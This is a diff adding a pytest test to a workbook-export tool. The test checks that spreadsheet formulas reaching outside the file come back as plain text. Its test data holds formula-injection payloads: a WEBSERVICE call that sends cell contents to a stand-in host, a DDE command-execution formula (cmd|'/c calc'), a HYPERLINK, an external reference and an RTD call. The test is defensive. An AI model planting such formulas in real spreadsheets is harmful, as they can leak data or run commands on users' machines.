@@ -211,3 +211,24 @@ def test_a_long_remark_is_seen_whole(tmp_path: Path) -> None:
     row = re.search(r'<row r="2"[^>]* ht="([\d.]+)"', sheet)
     assert row is not None
     assert float(row[1]) >= 75
+
+
+@pytest.mark.parametrize(
+    ("formula", "comes_back_as"),
+    [
+        ("=I9+SUM(I2:I8)*2", "formula"),  # reckons with what stands in the table
+        ('=WEBSERVICE("http://x.example/"&A1)', "text"),  # these reach out of the file
+        ('=HYPERLINK("http://x.example/","mở")', "text"),
+        ("=cmd|'/c calc'!A0", "text"),
+        ("='[khác.xlsx]Sheet1'!A1", "text"),
+        ("=RTD(A1,A2,A3)", "text"),
+    ],
+)
+def test_a_formula_that_reaches_out_comes_back_as_a_text(
+    tmp_path: Path, formula: str, comes_back_as: str
+) -> None:
+    """It was in a stranger's file, never calculated; in ours Excel would calculate it at once."""
+    path = save_workbook(tmp_path / "q2.xlsx", [HEADINGS, *with_cell("debit", Formula(formula))])
+    returned(path, tmp_path)
+    sheet = part(tmp_path / "back.xlsx", "xl/worksheets/sheet1.xml")
+    assert ("<f>" in sheet) is (comes_back_as == "formula")
